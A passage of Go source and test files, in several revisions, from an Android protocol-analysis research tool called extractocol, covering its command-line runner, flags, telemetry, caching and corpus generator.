				uri = truncate(siglang.RegexBody(tx.Request.URI), 60)
				break
			}
		}
		hitRate := 0.0
		if res.TraceEntries > 0 {
			hitRate = float64(s.Hits) / float64(res.TraceEntries) * 100
		}
		fmt.Printf("#%-5d %-7s %6d %5.1f%%  %s\n", s.TxID, s.Method, s.Hits, hitRate, uri)
	}
	fmt.Printf("matched %d/%d considered entries (%d unmatched, %d skipped)\n",
		res.MatchedEntries, res.TraceEntries, len(res.Unmatched), total-res.TraceEntries)
	if labeled != nil {
		good := 0
		for i, le := range labeled {
			if res.Verdicts[i] == le.WantID {
				good++
			}
		}
		fmt.Printf("ground-truth labels reproduced: %d/%d\n", good, len(labeled))
	}
	fmt.Printf("throughput: %s (%d entries in %v)\n", rate(total, elapsed), total, elapsed.Round(time.Microsecond))
}

func rate(n int, d time.Duration) string {
	return fmt.Sprintf("%.0f entries/sec", float64(n)/d.Seconds())
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n-3] + "..."
}

package main

import (
	"bytes"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"testing"

	"extractocol/internal/corpus"
	"extractocol/internal/dex"
)

func writeApp(t *testing.T, name string) string {
	t.Helper()
	app, err := corpus.ByName(name)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "app.apkb")
	if err := dex.WriteFile(path, app.Prog); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestRunAllFormats(t *testing.T) {
	path := writeApp(t, "radio reddit")
	for _, format := range []string{"text", "json", "dot"} {
		if err := run(path, format, "", 1, false, false, false, "", "", budgets{}); err != nil {
			t.Errorf("format %s: %v", format, err)
		}
	}
}

func TestRunScoped(t *testing.T) {
	path := writeApp(t, "KAYAK")
	if err := run(path, "text", "com.kayak.", 1, false, false, false, "", "", budgets{}); err != nil {
		t.Fatal(err)
	}
}

func TestRunRejectsBadFormat(t *testing.T) {
	path := writeApp(t, "blippex")
	if err := run(path, "yaml", "", 1, false, false, false, "", "", budgets{}); err == nil {
		t.Fatal("accepted unknown format")
	}
}

func TestRunRejectsMissingFile(t *testing.T) {
	if err := run(filepath.Join(t.TempDir(), "missing.apkb"), "text", "", 1, false, false, false, "", "", budgets{}); err == nil {
		t.Fatal("accepted missing file")
	}
}

// TestRunProfileEmitsPhaseBreakdown checks the -profile acceptance
// criterion: the emitted JSON carries a per-phase breakdown covering at
// least 6 pipeline stages.
func TestRunProfileEmitsPhaseBreakdown(t *testing.T) {
	path := writeApp(t, "radio reddit")
	out := captureStdout(t, func() {
		if err := run(path, "dot", "", 1, true, false, false, "", "", budgets{}); err != nil {
			t.Error(err)
		}
	})
	i := bytes.Index(out, []byte("{\n  \"package\""))
	if i < 0 {
		t.Fatalf("no profile JSON in output:\n%s", out)
	}
	var doc struct {
		Profile struct {
			Phases []struct {
				Name       string `json:"name"`
				DurationNS int64  `json:"duration_ns"`
			} `json:"phases"`
			Counters map[string]int64 `json:"counters"`
		} `json:"profile"`
	}
	if err := json.Unmarshal(out[i:], &doc); err != nil {
		t.Fatalf("profile output is not JSON: %v\n%s", err, out[i:])
	}
	if len(doc.Profile.Phases) < 6 {
		t.Fatalf("profile covers %d phases, want >= 6: %+v", len(doc.Profile.Phases), doc.Profile.Phases)
	}
	if len(doc.Profile.Counters) == 0 {
		t.Fatal("profile has no counters")
	}
}

// TestRunCacheWarmServesIdenticalReport drives the -cache flag end to end:
// a cold run fills the cache directory, the warm run prints the identical
// report, and its profile shows the hit.
func TestRunCacheWarmServesIdenticalReport(t *testing.T) {
	path := writeApp(t, "radio reddit")
	cacheDir := filepath.Join(t.TempDir(), "cache")
	cold := captureStdout(t, func() {
		if err := run(path, "text", "", 1, false, false, false, "", cacheDir, budgets{}); err != nil {
			t.Error(err)
		}
	})
	warm := captureStdout(t, func() {
		if err := run(path, "text", "", 1, false, false, false, "", cacheDir, budgets{}); err != nil {
			t.Error(err)
		}
	})
	// Timing and phase lines are run-local by design (a warm run reports
	// its own, fresh measurements); everything else must match byte for
	// byte. ci.sh applies the same normalization.
	stripRunLocal := func(out []byte) []byte {
		var kept [][]byte
		for _, line := range bytes.Split(out, []byte("\n")) {
			if bytes.Contains(line, []byte("analysis time")) || bytes.Contains(line, []byte("phases:")) {
				continue
			}
			kept = append(kept, line)
		}
		return bytes.Join(kept, []byte("\n"))
	}
	if !bytes.Equal(stripRunLocal(cold), stripRunLocal(warm)) {
		t.Error("warm -cache run printed a different report")
	}
	profiled := captureStdout(t, func() {
		if err := run(path, "dot", "", 1, true, false, false, "", cacheDir, budgets{}); err != nil {
			t.Error(err)
		}
	})
	if !bytes.Contains(profiled, []byte(`"cache_report_hits": 1`)) {
		t.Errorf("warm profile lacks the cache hit:\n%s", profiled)
	}
}

func captureStdout(t *testing.T, fn func()) []byte {
	t.Helper()
	old := os.Stdout
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	os.Stdout = w
	done := make(chan []byte)
	go func() {
		data, _ := io.ReadAll(r)
		done <- data
	}()
	fn()
	w.Close()
	os.Stdout = old
	return <-done
}

package main

import (
	"path/filepath"
	"testing"

	"extractocol/internal/corpus"
	"extractocol/internal/dex"
)

func writeApp(t *testing.T, name string) string {
	t.Helper()
	app, err := corpus.ByName(name)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "app.apkb")
	if err := dex.WriteFile(path, app.Prog); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestRunAllFormats(t *testing.T) {
	path := writeApp(t, "radio reddit")
	for _, format := range []string{"text", "json", "dot"} {
		if err := run(path, format, "", 1); err != nil {
			t.Errorf("format %s: %v", format, err)
		}
	}
}

func TestRunScoped(t *testing.T) {
	path := writeApp(t, "KAYAK")
	if err := run(path, "text", "com.kayak.", 1); err != nil {
		t.Fatal(err)
	}
}

func TestRunRejectsBadFormat(t *testing.T) {
	path := writeApp(t, "blippex")
	if err := run(path, "yaml", "", 1); err == nil {
		t.Fatal("accepted unknown format")
	}
}

func TestRunRejectsMissingFile(t *testing.T) {
	if err := run(filepath.Join(t.TempDir(), "missing.apkb"), "text", "", 1); err == nil {
		t.Fatal("accepted missing file")
	}
}

package main

import (
	"bytes"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"testing"

	"extractocol/internal/corpus"
	"extractocol/internal/dex"
)

func writeApp(t *testing.T, name string) string {
	t.Helper()
	app, err := corpus.ByName(name)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "app.apkb")
	if err := dex.WriteFile(path, app.Prog); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestRunAllFormats(t *testing.T) {
	path := writeApp(t, "radio reddit")
	for _, format := range []string{"text", "json", "dot"} {
		if err := run(config{path: path, format: format, hops: 1}); err != nil {
			t.Errorf("format %s: %v", format, err)
		}
	}
}

func TestRunScoped(t *testing.T) {
	path := writeApp(t, "KAYAK")
	if err := run(config{path: path, format: "text", scope: "com.kayak.", hops: 1}); err != nil {
		t.Fatal(err)
	}
}

func TestRunRejectsBadFormat(t *testing.T) {
	path := writeApp(t, "blippex")
	if err := run(config{path: path, format: "yaml", hops: 1}); err == nil {
		t.Fatal("accepted unknown format")
	}
}

func TestRunRejectsMissingFile(t *testing.T) {
	if err := run(config{path: filepath.Join(t.TempDir(), "missing.apkb"), format: "text", hops: 1}); err == nil {
		t.Fatal("accepted missing file")
	}
}

// TestRunProfileEmitsPhaseBreakdown checks the -profile acceptance
// criterion: the emitted JSON carries a per-phase breakdown covering at
// least 6 pipeline stages.
func TestRunProfileEmitsPhaseBreakdown(t *testing.T) {
	path := writeApp(t, "radio reddit")
	out := captureStdout(t, func() {
		if err := run(config{path: path, format: "dot", hops: 1, profile: true}); err != nil {
			t.Error(err)
		}
	})
	i := bytes.Index(out, []byte("{\n  \"package\""))
	if i < 0 {
		t.Fatalf("no profile JSON in output:\n%s", out)
	}
	var doc struct {
		Profile struct {
			Phases []struct {
				Name       string `json:"name"`
				DurationNS int64  `json:"duration_ns"`
			} `json:"phases"`
			Counters map[string]int64 `json:"counters"`
		} `json:"profile"`
	}
	if err := json.Unmarshal(out[i:], &doc); err != nil {
		t.Fatalf("profile output is not JSON: %v\n%s", err, out[i:])
	}
	if len(doc.Profile.Phases) < 6 {
		t.Fatalf("profile covers %d phases, want >= 6: %+v", len(doc.Profile.Phases), doc.Profile.Phases)
	}
	if len(doc.Profile.Counters) == 0 {
		t.Fatal("profile has no counters")
	}
}

// TestRunCacheWarmServesIdenticalReport drives the -cache flag end to end:
// a cold run fills the cache directory, the warm run prints the identical
// report, and its profile shows the hit.
func TestRunCacheWarmServesIdenticalReport(t *testing.T) {
	path := writeApp(t, "radio reddit")
	cacheDir := filepath.Join(t.TempDir(), "cache")
	cold := captureStdout(t, func() {
		if err := run(config{path: path, format: "text", hops: 1, cacheDir: cacheDir}); err != nil {
			t.Error(err)
		}
	})
	warm := captureStdout(t, func() {
		if err := run(config{path: path, format: "text", hops: 1, cacheDir: cacheDir}); err != nil {
			t.Error(err)
		}
	})
	// Timing and phase lines are run-local by design (a warm run reports
	// its own, fresh measurements); everything else must match byte for
	// byte. ci.sh applies the same normalization.
	stripRunLocal := func(out []byte) []byte {
		var kept [][]byte
		for _, line := range bytes.Split(out, []byte("\n")) {
			if bytes.Contains(line, []byte("analysis time")) || bytes.Contains(line, []byte("phases:")) {
				continue
			}
			kept = append(kept, line)
		}
		return bytes.Join(kept, []byte("\n"))
	}
	if !bytes.Equal(stripRunLocal(cold), stripRunLocal(warm)) {
		t.Error("warm -cache run printed a different report")
	}
	profiled := captureStdout(t, func() {
		if err := run(config{path: path, format: "dot", hops: 1, profile: true, cacheDir: cacheDir}); err != nil {
			t.Error(err)
		}
	})
	if !bytes.Contains(profiled, []byte(`"cache_report_hits": 1`)) {
		t.Errorf("warm profile lacks the cache hit:\n%s", profiled)
	}
}

// TestRunTelemetryFlags drives -events, -ops and the profile histograms in
// one run: the event stream must bracket the analysis with run_start and
// run_end and carry phase events, and the -profile JSON must include the
// per-phase latency histograms with quantiles.
func TestRunTelemetryFlags(t *testing.T) {
	path := writeApp(t, "radio reddit")
	eventsFile := filepath.Join(t.TempDir(), "events.jsonl")
	out := captureStdout(t, func() {
		if err := run(config{
			path: path, format: "dot", hops: 1, profile: true,
			opsAddr: "127.0.0.1:0", eventsFile: eventsFile, flight: true,
		}); err != nil {
			t.Error(err)
		}
	})
	for _, want := range []string{`"hists"`, `"p50_ns"`, `"p99_ns"`, `"phase_`} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("profile output lacks %s:\n%s", want, out)
		}
	}
	events, err := os.ReadFile(eventsFile)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"type":"run_start"`, `"type":"phase_end"`, `"type":"run_end"`, `{"seq":1,`} {
		if !bytes.Contains(events, []byte(want)) {
			t.Errorf("event stream lacks %s:\n%s", want, events)
		}
	}
}

func captureStdout(t *testing.T, fn func()) []byte {
	t.Helper()
	old := os.Stdout
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	os.Stdout = w
	done := make(chan []byte)
	go func() {
		data, _ := io.ReadAll(r)
		done <- data
	}()
	fn()
	w.Close()
	os.Stdout = old
	return <-done
}

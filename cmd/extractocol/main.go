// Command extractocol analyzes an Android application binary (.apkb
// container) and reports its protocol behavior: reconstructed HTTP
// transactions, message signatures, request/response pairs and
// inter-transaction dependencies.
//
// Usage:
//
//	extractocol [flags] app.apkb
//
// Flags:
//
//	-format text|json|dot|disasm   output format (default text)
//	-scope prefix           only analyze transactions whose demarcation
//	                        point lies in classes with this prefix
//	-async-hops n           asynchronous-event hops (0 disables the §3.4
//	                        heuristic; default 1)
//	-profile                append the per-phase observability breakdown
//	                        (phase durations, workload counters, worker
//	                        utilization, latency histograms with
//	                        p50/p90/p99 quantiles) as indented JSON
//	-deadline d             bound analysis wall time (e.g. 30s); what
//	                        exceeds it is dropped and reported in the
//	                        diagnostics section instead of hanging
//	-slice-budget n         cap cumulative slicing steps (0 = unlimited)
//	-fixpoint-budget n      cap taint fixpoint iterations (0 = unlimited)
//	-trace file             write a Chrome trace-event JSON timeline of the
//	                        run (load in Perfetto / chrome://tracing): one
//	                        span per phase, per-transaction job, and taint
//	                        fixpoint, on per-worker tracks
//	-explain                append the provenance chain of every
//	                        transaction (entry point, slice sizes, pairing
//	                        witness, signature cost, dependency origins)
//	-cache dir              persistent report cache: re-analyzing an
//	                        unchanged binary with unchanged options serves
//	                        the stored report instead of recomputing
//	-security               annotate transactions with the security lens:
//	                        cleartext-HTTP transport plus credential- and
//	                        PII-shaped request field keys (text and json
//	                        formats; rendered only when non-empty)
//	-ops addr               serve the live ops plane on addr (e.g. :9090 or
//	                        127.0.0.1:0): /metrics in Prometheus text
//	                        format, /healthz, and /debug/pprof/*; the bound
//	                        address is printed to stderr
//	-events file            append a structured JSONL event stream (run,
//	                        phase, cache and diagnostic events with
//	                        monotonic sequence numbers) to this file
//	-flight                 arm the crash flight recorder: on a recovered
//	                        panic or tripped deadline the diagnostic
//	                        carries the most recent spans of every worker
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"extractocol/internal/core"
	"extractocol/internal/dex"
	"extractocol/internal/obs"
	"extractocol/internal/ops"
	"extractocol/internal/report"
	"extractocol/internal/resultcache"
)

func main() {
	var cfg config
	flag.StringVar(&cfg.format, "format", "text", "output format: text, json, dot or disasm")
	flag.StringVar(&cfg.scope, "scope", "", "class prefix to scope the analysis to")
	flag.IntVar(&cfg.hops, "async-hops", 1, "asynchronous event hops (0 disables the heuristic)")
	flag.BoolVar(&cfg.profile, "profile", false, "append the per-phase profile as JSON")
	flag.DurationVar(&cfg.deadline, "deadline", 0, "analysis deadline (0 = unlimited)")
	flag.Int64Var(&cfg.sliceSteps, "slice-budget", 0, "cumulative slice step budget (0 = unlimited)")
	flag.Int64Var(&cfg.fixIters, "fixpoint-budget", 0, "taint fixpoint iteration budget (0 = unlimited)")
	flag.StringVar(&cfg.traceFile, "trace", "", "write a Chrome trace-event JSON timeline to this file")
	flag.BoolVar(&cfg.explain, "explain", false, "append per-transaction provenance chains")
	flag.StringVar(&cfg.cacheDir, "cache", "", "persistent report cache directory (empty = off)")
	flag.BoolVar(&cfg.security, "security", false, "annotate transactions with the security lens")
	flag.StringVar(&cfg.opsAddr, "ops", "", "serve /metrics, /healthz and /debug/pprof on this address (empty = off)")
	flag.StringVar(&cfg.eventsFile, "events", "", "append the structured JSONL event stream to this file (empty = off)")
	flag.BoolVar(&cfg.flight, "flight", false, "arm the crash flight recorder (recent-span dumps in diagnostics)")
	flag.Parse()

	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: extractocol [flags] app.apkb")
		flag.PrintDefaults()
		os.Exit(2)
	}
	cfg.path = flag.Arg(0)
	if err := run(cfg); err != nil {
		fmt.Fprintln(os.Stderr, "extractocol:", err)
		os.Exit(1)
	}
}

// config carries every flag into run; tests construct it directly.
type config struct {
	path       string
	format     string
	scope      string
	hops       int
	profile    bool
	explain    bool
	security   bool
	traceFile  string
	cacheDir   string
	deadline   time.Duration
	sliceSteps int64
	fixIters   int64
	opsAddr    string
	eventsFile string
	flight     bool
}

// telemetry is the live ops plane behind -ops/-events: a registry for
// exposition, the HTTP listener, and the structured event log. The zero
// value (no flags) is fully off and costs nothing on the analysis path.
type telemetry struct {
	reg *obs.Registry
	srv *ops.Server
	ev  *obs.EventLog
}

// openTelemetry starts whatever the -ops/-events flags ask for. The bound
// ops address is announced on stderr (stdout carries the report) so
// scripts can discover a :0 listener.
func openTelemetry(opsAddr, eventsFile string) (*telemetry, error) {
	t := &telemetry{}
	if opsAddr != "" {
		t.reg = obs.NewRegistry()
		srv, err := ops.Serve(opsAddr, t.reg)
		if err != nil {
			return nil, fmt.Errorf("ops: %w", err)
		}
		t.srv = srv
		fmt.Fprintf(os.Stderr, "ops: serving on %s\n", srv.URL())
	}
	if eventsFile != "" {
		f, err := os.Create(eventsFile)
		if err != nil {
			t.srv.Close()
			return nil, fmt.Errorf("events: %w", err)
		}
		t.ev = obs.NewEventLog(f)
	}
	return t, nil
}

// close shuts the listener down and flushes the event log; the first
// error wins.
func (t *telemetry) close() error {
	err := t.srv.Close()
	if e := t.ev.Close(); err == nil {
		err = e
	}
	return err
}

func run(cfg config) (err error) {
	data, err := os.ReadFile(cfg.path)
	if err != nil {
		return err
	}
	prog, err := dex.Decode(data)
	if err != nil {
		return err
	}
	tel, err := openTelemetry(cfg.opsAddr, cfg.eventsFile)
	if err != nil {
		return err
	}
	defer func() {
		if e := tel.close(); err == nil {
			err = e
		}
	}()
	opts := core.NewOptions()
	opts.MaxAsyncHops = cfg.hops
	opts.ScopePrefix = cfg.scope
	opts.Deadline = cfg.deadline
	opts.MaxSliceSteps = cfg.sliceSteps
	opts.MaxFixpointIters = cfg.fixIters
	opts.Explain = cfg.explain
	opts.Obs = tel.reg
	opts.Events = tel.ev
	opts.Flight = cfg.flight
	if cfg.traceFile != "" {
		opts.Tracer = obs.NewTracer()
	}
	if cfg.cacheDir != "" {
		cache, err := resultcache.Open(cfg.cacheDir)
		if err != nil {
			return err
		}
		opts.Cache = cache
		// KeyFor folds in every report-affecting option, so it must run
		// after the options above are final.
		opts.CacheKey = resultcache.KeyFor(resultcache.HashBytes(data), opts)
	}
	rep, err := core.Analyze(prog, opts)
	if err != nil {
		return err
	}
	ropts := report.Options{Security: cfg.security}
	switch cfg.format {
	case "json":
		data, err := report.JSONOpts(rep, ropts)
		if err != nil {
			return err
		}
		fmt.Println(string(data))
	case "dot":
		fmt.Print(report.DOT(rep))
	case "disasm":
		fmt.Print(prog.Disassemble())
	case "text":
		fmt.Print(report.TextOpts(rep, ropts))
	default:
		return fmt.Errorf("unknown format %q", cfg.format)
	}
	if cfg.profile {
		data, err := report.ProfileJSON(rep)
		if err != nil {
			return err
		}
		fmt.Println(string(data))
	}
	if cfg.explain {
		if cfg.format == "json" {
			data, err := report.ExplainJSON(rep)
			if err != nil {
				return err
			}
			fmt.Println(string(data))
		} else {
			fmt.Print(report.ExplainText(rep))
		}
	}
	if cfg.traceFile != "" {
		data, err := opts.Tracer.Export(1, rep.Package).JSON()
		if err != nil {
			return err
		}
		if err := os.WriteFile(cfg.traceFile, data, 0o644); err != nil {
			return err
		}
	}
	return nil
}

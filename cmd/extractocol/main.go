// Command extractocol analyzes an Android application binary (.apkb
// container) and reports its protocol behavior: reconstructed HTTP
// transactions, message signatures, request/response pairs and
// inter-transaction dependencies.
//
// Usage:
//
//	extractocol [flags] app.apkb
//
// Flags:
//
//	-format text|json|dot|disasm   output format (default text)
//	-scope prefix           only analyze transactions whose demarcation
//	                        point lies in classes with this prefix
//	-async-hops n           asynchronous-event hops (0 disables the §3.4
//	                        heuristic; default 1)
//	-profile                append the per-phase observability breakdown
//	                        (phase durations, workload counters, worker
//	                        utilization) as indented JSON
//	-deadline d             bound analysis wall time (e.g. 30s); what
//	                        exceeds it is dropped and reported in the
//	                        diagnostics section instead of hanging
//	-slice-budget n         cap cumulative slicing steps (0 = unlimited)
//	-fixpoint-budget n      cap taint fixpoint iterations (0 = unlimited)
//	-trace file             write a Chrome trace-event JSON timeline of the
//	                        run (load in Perfetto / chrome://tracing): one
//	                        span per phase, per-transaction job, and taint
//	                        fixpoint, on per-worker tracks
//	-explain                append the provenance chain of every
//	                        transaction (entry point, slice sizes, pairing
//	                        witness, signature cost, dependency origins)
//	-cache dir              persistent report cache: re-analyzing an
//	                        unchanged binary with unchanged options serves
//	                        the stored report instead of recomputing
//	-security               annotate transactions with the security lens:
//	                        cleartext-HTTP transport plus credential- and
//	                        PII-shaped request field keys (text and json
//	                        formats; rendered only when non-empty)
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"extractocol/internal/core"
	"extractocol/internal/dex"
	"extractocol/internal/obs"
	"extractocol/internal/report"
	"extractocol/internal/resultcache"
)

func main() {
	format := flag.String("format", "text", "output format: text, json, dot or disasm")
	scope := flag.String("scope", "", "class prefix to scope the analysis to")
	hops := flag.Int("async-hops", 1, "asynchronous event hops (0 disables the heuristic)")
	profile := flag.Bool("profile", false, "append the per-phase profile as JSON")
	deadline := flag.Duration("deadline", 0, "analysis deadline (0 = unlimited)")
	sliceBudget := flag.Int64("slice-budget", 0, "cumulative slice step budget (0 = unlimited)")
	fixBudget := flag.Int64("fixpoint-budget", 0, "taint fixpoint iteration budget (0 = unlimited)")
	traceFile := flag.String("trace", "", "write a Chrome trace-event JSON timeline to this file")
	explain := flag.Bool("explain", false, "append per-transaction provenance chains")
	cacheDir := flag.String("cache", "", "persistent report cache directory (empty = off)")
	security := flag.Bool("security", false, "annotate transactions with the security lens")
	flag.Parse()

	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: extractocol [flags] app.apkb")
		flag.PrintDefaults()
		os.Exit(2)
	}
	cfg := budgets{deadline: *deadline, sliceSteps: *sliceBudget, fixIters: *fixBudget}
	if err := run(flag.Arg(0), *format, *scope, *hops, *profile, *explain, *security, *traceFile, *cacheDir, cfg); err != nil {
		fmt.Fprintln(os.Stderr, "extractocol:", err)
		os.Exit(1)
	}
}

// budgets carries the robustness limits from flags into core.Options.
type budgets struct {
	deadline   time.Duration
	sliceSteps int64
	fixIters   int64
}

func run(path, format, scope string, hops int, profile, explain, security bool, traceFile, cacheDir string, cfg budgets) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	prog, err := dex.Decode(data)
	if err != nil {
		return err
	}
	opts := core.NewOptions()
	opts.MaxAsyncHops = hops
	opts.ScopePrefix = scope
	opts.Deadline = cfg.deadline
	opts.MaxSliceSteps = cfg.sliceSteps
	opts.MaxFixpointIters = cfg.fixIters
	opts.Explain = explain
	if traceFile != "" {
		opts.Tracer = obs.NewTracer()
	}
	if cacheDir != "" {
		cache, err := resultcache.Open(cacheDir)
		if err != nil {
			return err
		}
		opts.Cache = cache
		// KeyFor folds in every report-affecting option, so it must run
		// after the options above are final.
		opts.CacheKey = resultcache.KeyFor(resultcache.HashBytes(data), opts)
	}
	rep, err := core.Analyze(prog, opts)
	if err != nil {
		return err
	}
	ropts := report.Options{Security: security}
	switch format {
	case "json":
		data, err := report.JSONOpts(rep, ropts)
		if err != nil {
			return err
		}
		fmt.Println(string(data))
	case "dot":
		fmt.Print(report.DOT(rep))
	case "disasm":
		fmt.Print(prog.Disassemble())
	case "text":
		fmt.Print(report.TextOpts(rep, ropts))
	default:
		return fmt.Errorf("unknown format %q", format)
	}
	if profile {
		data, err := report.ProfileJSON(rep)
		if err != nil {
			return err
		}
		fmt.Println(string(data))
	}
	if explain {
		if format == "json" {
			data, err := report.ExplainJSON(rep)
			if err != nil {
				return err
			}
			fmt.Println(string(data))
		} else {
			fmt.Print(report.ExplainText(rep))
		}
	}
	if traceFile != "" {
		data, err := opts.Tracer.Export(1, rep.Package).JSON()
		if err != nil {
			return err
		}
		if err := os.WriteFile(traceFile, data, 0o644); err != nil {
			return err
		}
	}
	return nil
}

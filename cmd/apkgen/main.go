// Command apkgen writes the 34-application evaluation corpus to disk as
// .apkb binary containers, ready for cmd/extractocol.
//
// Usage:
//
//	apkgen [-out dir] [-obfuscate] [app names...]
//
// Without arguments every corpus app is generated. -obfuscate applies the
// ProGuard-like renamer before encoding (entry points kept).
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"extractocol/internal/corpus"
	"extractocol/internal/dex"
	"extractocol/internal/obfuscate"
)

func main() {
	out := flag.String("out", "apks", "output directory")
	obf := flag.Bool("obfuscate", false, "obfuscate app identifiers before encoding")
	flag.Parse()

	if err := run(*out, *obf, flag.Args()); err != nil {
		fmt.Fprintln(os.Stderr, "apkgen:", err)
		os.Exit(1)
	}
}

func run(dir string, obf bool, names []string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	apps := corpus.Apps()
	want := map[string]bool{}
	for _, n := range names {
		want[n] = true
	}
	for _, app := range apps {
		if len(want) > 0 && !want[app.Spec.Name] {
			continue
		}
		if obf {
			obfuscate.Apply(app.Prog, obfuscate.Options{KeepEntryPoints: true})
		}
		path := filepath.Join(dir, slug(app.Spec.Name)+".apkb")
		if err := dex.WriteFile(path, app.Prog); err != nil {
			return fmt.Errorf("%s: %w", app.Spec.Name, err)
		}
		fmt.Printf("wrote %s (%d classes, %d instructions)\n",
			path, len(app.Prog.Classes()), app.Prog.InstrCount())
	}
	return nil
}

func slug(name string) string {
	s := strings.ToLower(name)
	s = strings.NewReplacer(" ", "-", ":", "", ",", "", "&", "and").Replace(s)
	return s
}

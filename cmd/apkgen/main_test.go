package main

import (
	"os"
	"path/filepath"
	"testing"

	"extractocol/internal/dex"
)

func TestRunGeneratesSelectedApps(t *testing.T) {
	dir := t.TempDir()
	if err := run(dir, false, []string{"blippex", "TZM"}); err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 2 {
		t.Fatalf("files = %d, want 2", len(entries))
	}
	for _, e := range entries {
		p, err := dex.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatalf("%s: %v", e.Name(), err)
		}
		if len(p.Classes()) == 0 {
			t.Fatalf("%s: empty program", e.Name())
		}
	}
}

func TestRunObfuscated(t *testing.T) {
	dir := t.TempDir()
	if err := run(dir, true, []string{"blippex"}); err != nil {
		t.Fatal(err)
	}
	p, err := dex.ReadFile(filepath.Join(dir, "blippex.apkb"))
	if err != nil {
		t.Fatal(err)
	}
	if !p.Manifest.Obfuscated {
		t.Fatal("program not marked obfuscated")
	}
}

func TestSlug(t *testing.T) {
	if got := slug("AOL: Mail, News & Video"); got != "aol-mail-news-and-video" {
		t.Fatalf("slug = %q", got)
	}
}

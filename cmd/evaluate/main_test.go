package main

import "testing"

func TestRunSingleArtifacts(t *testing.T) {
	// The cheap artifacts that do not require the full corpus sweep.
	for _, only := range []string{"table3", "table5", "table6", "ablation"} {
		if err := run(only); err != nil {
			t.Errorf("%s: %v", only, err)
		}
	}
}

func TestRunTable1(t *testing.T) {
	if testing.Short() {
		t.Skip("full corpus evaluation")
	}
	if err := run("table1"); err != nil {
		t.Fatal(err)
	}
}

package main

import "testing"

func TestRunSingleArtifacts(t *testing.T) {
	// The cheap artifacts that do not require the full corpus sweep.
	for _, only := range []string{"table3", "table5", "table6", "ablation"} {
		if err := run(config{only: only}); err != nil {
			t.Errorf("%s: %v", only, err)
		}
	}
}

func TestRunTable1(t *testing.T) {
	if testing.Short() {
		t.Skip("full corpus evaluation")
	}
	if err := run(config{only: "table1"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunProfile(t *testing.T) {
	if testing.Short() {
		t.Skip("full corpus evaluation")
	}
	// -profile over the parallel corpus mode: the per-app fan-out plus the
	// observability rendering must succeed end to end.
	if err := run(config{only: "timing", profile: true}); err != nil {
		t.Fatal(err)
	}
}

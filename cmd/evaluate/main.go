// Command evaluate regenerates the paper's evaluation artifacts from the
// corpus: Tables 1-6 and Figures 6-7 of "Enabling Automatic Protocol
// Behavior Analysis for Android Applications" (CoNEXT 2016), plus the
// obfuscation-invariance check, the asynchronous-heuristic ablation, and
// analysis timing.
//
// Usage:
//
//	evaluate                     run everything
//	evaluate -only table1        one artifact (table1, table2, table3,
//	                             table4, table5, table6, figure6, figure7,
//	                             validity, obfuscation, ablation, timing)
//	evaluate -profile            emit per-app and corpus-wide per-phase
//	                             observability breakdowns as JSON, plus
//	                             the parallel fan-out speedup and, when a
//	                             shared report cache is in use, its
//	                             contention gauges (lock-wait time,
//	                             same-key races, install retries)
//	evaluate -serial             analyze apps one at a time instead of in
//	                             parallel
//	evaluate -deadline 30s       bound each app's analysis; apps that
//	                             exceed it ship degraded reports with
//	                             diagnostics, and apps that fail outright
//	                             are reported on stderr without aborting
//	                             the rest of the corpus
//	evaluate -trace corpus.json  write one Chrome trace-event JSON timeline
//	                             covering every corpus app (one process
//	                             track per app; load in Perfetto)
//	evaluate -cache dir          persistent report cache shared by all
//	                             corpus apps; a warm re-evaluation serves
//	                             every unchanged app's report from disk
//	evaluate -gen 1729:500       differential-testing harness: generate a
//	                             500-app corpus from seed 1729 and assert
//	                             byte-identical reports across every
//	                             equivalence axis (same-seed regeneration,
//	                             serial/parallel, cold/warm cache,
//	                             budgeted/unbudgeted, oracle/indexed
//	                             pairing, interpretive/compiled signature
//	                             matcher); exits nonzero on any mismatch
//	evaluate -ops addr           serve the live ops plane on addr (e.g.
//	                             :9090 or 127.0.0.1:0): /metrics in
//	                             Prometheus text format, /healthz, and
//	                             /debug/pprof/*; the bound address is
//	                             printed to stderr; composes with every
//	                             mode including -gen, so a long
//	                             differential run can be watched live
//	evaluate -events file        append a structured JSONL event stream
//	                             (run, phase, cache and diagnostic events
//	                             with monotonic sequence numbers) to file
//	evaluate -flight             arm the crash flight recorder: panic and
//	                             deadline diagnostics carry each worker's
//	                             most recent spans
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"extractocol/internal/evaluate"
	"extractocol/internal/obs"
	"extractocol/internal/ops"
)

func main() {
	var cfg config
	flag.StringVar(&cfg.only, "only", "", "single artifact to produce")
	flag.BoolVar(&cfg.profile, "profile", false, "emit per-phase observability JSON")
	flag.BoolVar(&cfg.serial, "serial", false, "disable per-app parallelism")
	flag.DurationVar(&cfg.deadline, "deadline", 0, "per-app analysis deadline (0 = unlimited)")
	flag.StringVar(&cfg.traceFile, "trace", "", "write a corpus-wide Chrome trace-event JSON timeline to this file")
	flag.StringVar(&cfg.cacheDir, "cache", "", "persistent report cache directory (empty = off)")
